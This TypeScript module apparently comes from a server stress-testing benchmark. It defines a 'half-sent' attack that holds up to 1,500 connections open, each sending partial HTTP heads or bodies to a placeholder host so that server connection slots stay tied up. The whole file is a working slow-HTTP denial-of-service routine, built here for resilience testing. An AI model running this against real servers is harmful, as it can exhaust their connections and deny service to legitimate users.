import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Answers, Attack } from '../attack.ts';

const OPEN = 1_500;
const HEAD = 'POST /api/setsurveyanswer/ HTTP/1.1\r\nHost: bench.example\r\nContent-Type: application/json\r\n';
/** Half of a head, and a head with half of its body. */
const HALVES = [HEAD, `${HEAD}Content-Length: 100000\r\n\r\n{"code":`];
const EVERY_MS = 20;

export const halfSent: Attack = {
  name: 'half-sent',
  describe: 'Up to 1,500 connections that send half a head or half a body and then wait, opened anew as they end.',
  async run({ host, port }, signal) {
    const sockets = new Set<Socket>();
    const answers: Answers = {};
    for (let at = 0; !signal.aborted; at += 1) {
      if (sockets.size < OPEN) {
        let status = 0;
        const socket = connect(port, host).on('error', () => undefined);
        sockets.add(socket);
        socket.on('data', (data) => (status ||= Number(/^HTTP\/1\.1 (\d{3})/.exec(data.toString('latin1'))?.[1] ?? 0)));
        socket.once('close', () => {
          sockets.delete(socket);
          answers[status] = (answers[status] ?? 0) + 1;
        });
        socket.write(HALVES[at % HALVES.length] ?? '');
      }
      await sleep(EVERY_MS, undefined, { signal }).catch(() => undefined);
    }
    for (const socket of sockets) socket.destroy();
    return answers;
  },
};
